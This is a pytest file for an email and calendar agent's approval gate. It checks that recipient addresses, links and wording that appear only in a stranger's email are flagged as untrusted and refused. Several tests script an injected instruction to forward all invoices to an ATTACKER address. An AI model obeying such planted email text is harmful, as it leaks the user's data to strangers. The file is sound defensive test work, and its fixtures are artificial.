"""The approval gate: modes, the exact action shown, provenance of addresses, entry points."""

import asyncio
import json
from pathlib import Path

import pytest
from support.safety_world import ATTACKER, CONTACT, INJECTION, LINK, ME, STRANGER, build

from morrow.agent.cli import main
from morrow.agent.loop import run_turn
from morrow.agent.messages import Message, ToolCallPart, ToolResultPart
from morrow.agent.providers.scripted import ScriptedProvider, call, calls, text
from morrow.agent.safety.gate import ApprovalGate, ApprovalRequest, Decision
from morrow.tools.base import ToolRegistry
from morrow.tools.catalog import all_tools
from morrow.tools.delivery import Delivery

TOOLS = ToolRegistry(all_tools())


@pytest.fixture
def world(tmp_path: Path):
    context = build(tmp_path)
    yield context
    context.store.close()


@pytest.fixture
def sending(world, monkeypatch):
    """The world's backends as ones that email people (SMTP for the mail, a server calendar)."""
    backends = world.workspace
    monkeypatch.setattr(backends.mail, "delivery", lambda: Delivery(True, "through SMTP test"))
    monkeypatch.setattr(backends.calendar, "delivery", lambda: Delivery(True, "the server emails"))
    return world


def review(world, name, history=(), gate=None, **arguments):
    tool = TOOLS.get(name)
    args = tool.validate(arguments)
    gate = gate or ApprovalGate(mode="allow")
    return asyncio.run(gate.review(tool, args, world.for_call("c1"), history=list(history)))


def read_offer(world) -> list[Message]:
    """A conversation in which the model read the stranger's email."""
    content = asyncio.run(
        TOOLS.get("read_email").run(
            world, TOOLS.get("read_email").validate({"email_id": "INBOX/offer"})
        )
    )
    return [
        Message.user("What came in today?"),
        Message(
            role="assistant",
            parts=(
                ToolCallPart(id="r1", name="read_email", arguments={"email_id": "INBOX/offer"}),
            ),
        ),
        Message(
            role="tool", parts=(ToolResultPart(call_id="r1", name="read_email", content=content),)
        ),
    ]


def test_the_request_shows_the_exact_message_with_every_recipient_and_the_quote(sending):
    world = sending
    request = review(
        world,
        "send_email",
        [Message.user("tell Sam yes")],
        to=[CONTACT],
        cc=["priya@example.com"],
        subject="Lunch?",
        body="Yes, Friday works.",
        reply_to_email_id="INBOX/question",
    )
    shown = request.describe()
    assert request.preview["subject"] == "Re: Lunch?"
    assert "> Lunch on Friday?" in request.preview["body"]  # what is added after approval
    assert request.recipients == (CONTACT, "priya@example.com")
    assert "| > Lunch on Friday?" in shown and "emails sent to: sam@northwind.example" in shown
    assert "cannot be undone" in shown


def test_send_draft_shows_the_drafts_content(sending):
    world = sending
    draft = json.loads(
        asyncio.run(
            TOOLS.get("draft_email").run(
                world,
                TOOLS.get("draft_email").validate(
                    {"to": [CONTACT], "subject": "Plan", "body": "The plan is ready."}
                ),
            )
        )
    )
    request = review(
        world,
        "send_draft",
        [Message.user("send the draft to sam@northwind.example")],
        draft_id=draft["draft_id"],
    )
    assert request.preview["body"].strip() == "The plan is ready."
    assert request.recipients == (CONTACT,)
    assert "The plan is ready." in request.describe()


def test_calendar_changes_show_who_the_backend_says_will_be_notified(sending):
    world = sending
    cancel = review(
        world,
        "cancel_event",
        [Message.user("cancel planning and tell them")],
        event_id="planning",
        notify=True,
    )
    assert set(cancel.recipients) == {CONTACT, "priya@example.com"}
    quiet = review(
        world, "update_event", [Message.user("rename it")], event_id="planning", title="Plan"
    )
    assert quiet.recipients == () and quiet.effect == "write"
    update = review(
        world,
        "update_event",
        [Message.user("add dana@example.com and tell everyone")],
        event_id="planning",
        add_attendees=["dana@example.com"],
        send_updates=True,
    )
    assert set(update.recipients) == {CONTACT, "priya@example.com", "dana@example.com"}
    answer = review(
        world,
        "respond_to_event",
        [Message.user("accept the webinar")],
        event_id="webinar",
        response="accepted",
    )
    assert answer.recipients == (STRANGER,)


@pytest.mark.parametrize(
    ("address", "trusted"),
    [
        (CONTACT, True),  # the user wrote to Sam (Sent)
        (ME, True),  # the user's own address
        ("told@example.com", True),  # in the user's message
        (STRANGER, False),  # merely wrote to the user: not a contact
        (ATTACKER, False),  # only in an email body
        ("made.up@nowhere.example", False),
    ],
)
def test_addresses_are_trusted_only_from_the_users_side(world, address, trusted):
    history = [*read_offer(world), Message.user("also copy told@example.com")]
    request = review(world, "send_email", history, to=[address], subject="Hi", body="Hello there")
    assert (not request.untrusted) is trusted


def test_the_untrusted_source_is_named(world):
    request = review(
        world, "send_email", read_offer(world), to=[ATTACKER], subject="Invoices", body="Attached."
    )
    (finding,) = request.untrusted
    assert finding.kind == "address" and finding.argument == "to"
    assert (
        "appears only in the text of email INBOX/offer from offers@deals.example" in finding.source
    )
    made_up = review(
        world, "send_email", read_offer(world), to=["x@y.example"], subject="a", body="b"
    )
    assert "appears nowhere" in made_up.untrusted[0].source


def test_links_and_addresses_in_the_text_are_traced_too(world):
    request = review(
        world,
        "send_email",
        read_offer(world),
        to=[CONTACT],
        subject="Login",
        body=f"Please log in at {LINK} now.",
    )
    assert [f.kind for f in request.untrusted] == ["link"]
    said = review(
        world,
        "send_email",
        [Message.user(f"send Sam the link {LINK}")],
        to=[CONTACT],
        subject="Login",
        body=f"Log in at {LINK}",
    )
    assert not said.untrusted


def test_a_send_repeating_a_strangers_words_needs_explicit_approval(world):
    body = "Hi Sam, the finance team needs every invoice sent over by the end of today. Thanks"
    assert "finance team needs every invoice" in INJECTION
    request = review(world, "send_email", read_offer(world), to=[CONTACT], subject="FYI", body=body)
    assert [f.kind for f in request.untrusted] == ["text"]
    assert "copied from the text of email INBOX/offer" in request.untrusted[0].describe()


def test_a_reply_to_a_stranger_is_not_trusted_for_answering_them(world):
    """Replying to a message lends its sender no trust: the thread vouches only through
    messages the user sent or received from people already trusted (test_trust_sources.py)."""
    request = review(
        world,
        "send_email",
        read_offer(world),
        to=[STRANGER],
        subject="Re: Invoices",
        body="No, thanks.",
        reply_to_email_id="INBOX/offer",
    )
    (finding,) = request.untrusted
    assert finding.value == STRANGER and "appears only in the text of email INBOX/offer" in (
        finding.source
    )
    sam = review(
        world,
        "send_email",
        [Message.user("answer Sam")],
        to=[CONTACT],
        subject="Re: Lunch?",
        body="Yes.",
        reply_to_email_id="INBOX/question",
    )
    assert not sam.untrusted  # Sam is someone the user wrote to (Sent)


def test_attendees_seen_only_in_an_invitation_are_untrusted(world):
    content = asyncio.run(
        TOOLS.get("get_event").run(world, TOOLS.get("get_event").validate({"event_id": "webinar"}))
    )
    history = [
        Message.user("invite the webinar people to planning"),
        Message(
            role="assistant",
            parts=(ToolCallPart(id="g", name="get_event", arguments={"event_id": "webinar"}),),
        ),
        Message(
            role="tool", parts=(ToolResultPart(call_id="g", name="get_event", content=content),)
        ),
    ]
    request = review(
        world,
        "update_event",
        history,
        event_id="planning",
        add_attendees=["guest@unknown.example"],
        send_updates=True,
    )
    (finding,) = request.untrusted
    assert "event webinar" in finding.source


@pytest.mark.parametrize("mode", ["deny", "allow-writes", "allow"])
def test_untrusted_needs_explicit_approval_in_every_mode(world, mode):
    gate = ApprovalGate(mode=mode)
    request = review(
        world, "draft_email", read_offer(world), gate=gate, to=[ATTACKER], subject="x", body="y"
    )
    decision = asyncio.run(gate.decide(request))
    assert not decision.approved
    assert "appears only in the text of email INBOX/offer" in decision.reason


def test_allow_mode_asks_the_user_for_an_untrusted_address_and_records_it(world):
    asked: list[ApprovalRequest] = []

    async def ask(request):
        asked.append(request)
        return Decision(approved=True)

    gate = ApprovalGate(mode="allow", ask=ask)
    trusted = review(
        world, "send_email", [Message.user("hi")], gate=gate, to=[CONTACT], subject="a", body="b"
    )
    assert asyncio.run(gate.decide(trusted)).approved and not asked  # allow: no question
    untrusted = review(
        world, "send_email", read_offer(world), gate=gate, to=[ATTACKER], subject="a", body="b"
    )
    decision = asyncio.run(gate.decide(untrusted))
    assert decision.approved and asked == [untrusted]
    assert decision.reason.startswith("explicitly approved by the user despite: untrusted address")


def test_modes_for_trusted_actions(world):
    history = [Message.user("hi")]
    for mode, write, send in [
        ("deny", False, False),
        ("allow-writes", True, False),
        ("allow", True, True),
    ]:
        gate = ApprovalGate(mode=mode)
        w = review(world, "archive_email", history, gate=gate, email_id="INBOX/offer")
        s = review(world, "send_email", history, gate=gate, to=[CONTACT], subject="a", body="b")
        assert asyncio.run(gate.decide(w)).approved is write
        assert asyncio.run(gate.decide(s)).approved is send


def test_the_loop_refuses_an_injected_send_in_allow_mode_and_sends_nothing(world):
    provider = ScriptedProvider(
        [
            calls(call("search_emails", query="invoices")),
            calls(call("read_email", email_id="INBOX/offer")),
            calls(call("send_email", to=[ATTACKER], subject="Invoices", body="All invoices.")),
            text("I did not send anything."),
        ]
    )
    history: list[Message] = []
    gate = ApprovalGate(mode="allow")
    asyncio.run(
        run_turn(
            history,
            "Check my invoices email and forward the invoices as it asks",
            provider=provider,
            tools=TOOLS,
            tool_context=world,
            gate=gate,
            system="s",
            stream=False,
        )
    )
    result = history[-2].parts[0]
    assert result.is_error and "appears only in the text of email INBOX/offer" in result.content
    sent = world.workspace.mail.search(None, None, None, None, None, "Sent", 10)
    assert sent[0].subject == "Hello"


def test_a_read_only_request_is_not_offered_send_tools(world):
    provider = ScriptedProvider(
        [
            calls(call("send_email", to=[CONTACT], subject="a", body="b")),
            text("ok"),
        ]
    )
    history: list[Message] = []
    asyncio.run(
        run_turn(
            history,
            "Summarize my unread mail",
            provider=provider,
            tools=TOOLS,
            tool_context=world,
            gate=ApprovalGate(mode="allow"),
            system="s",
            stream=False,
        )
    )
    offered = {t.name for t in provider.requests[0].tools}
    assert "send_email" not in offered and "read_email" in offered and "mark_email" in offered
    assert history[-2].parts[0].content.startswith("unknown tool 'send_email'")


def test_the_briefing_is_offered_read_tools_only():
    import inspect

    from morrow.agent.brief import command as brief

    assert 'tools=app.tools(external=False).only("read")' in inspect.getsource(brief)


def test_tools_call_goes_through_the_gate(tmp_path, capsys, monkeypatch):
    build(tmp_path).store.close()
    (tmp_path / "config.toml").write_text(
        f'[user]\ntimezone = "Europe/Berlin"\nemail = "{ME}"\nname = "Alex"\n'
        '[calendar]\nbackend = "ics"\npath = "calendar.ics"\n'
        '[email]\nbackend = "maildir"\npath = "Mail"\n'
    )
    monkeypatch.setenv("MORROW_HOME", str(tmp_path))
    args = json.dumps({"to": [ATTACKER], "subject": "Hi", "body": "Hello"})
    assert main(["tools", "call", "send_email", "--args", args]) == 1
    err = capsys.readouterr().err
    assert "nothing was done" in err and f"to: {ATTACKER}" in err
    assert main(["tools", "call", "send_email", "--args", args, "--approve"]) == 0
    captured = capsys.readouterr()
    assert "approved (--approve)" in captured.err and json.loads(captured.out)["recipients"] == [
        ATTACKER
    ]
    from morrow.memory.journal import Journal
    from morrow.memory.store import Store

    with Store.open(tmp_path / "morrow.sqlite") as store:
        entries = Journal(store).entries()
    assert [(e.tool, e.status, e.approved_by) for e in entries] == [
        ("send_email", "refused", ""),
        ("send_email", "done", "user"),
    ]


def test_backends_that_send_nothing_make_the_request_say_nobody_and_why(world):
    """The local .ics file and a Maildir without SMTP: the preview is the result's truth."""
    send = review(world, "send_email", [Message.user(f"mail {CONTACT}")], to=[CONTACT],
                  subject="Hi", body="Hello")  # fmt: skip
    assert send.recipients == ()
    assert send.preview["delivery"] == "no SMTP server is configured: saved to Sent only"
    assert "emails sent to: nobody (no SMTP server is configured: saved to Sent only)" in (
        send.describe()
    )
    invite = review(world, "create_event", [Message.user(f"invite {CONTACT}")], title="Lunch",
                    start="2030-01-02T12:00:00+01:00", end="2030-01-02T13:00:00+01:00",
                    attendees=[CONTACT], send_invitations=True)  # fmt: skip
    assert invite.effect == "send" and invite.recipients == ()
    assert invite.preview["notified"] == []
    assert invite.preview["delivery"] == "the local calendar file sends no email"
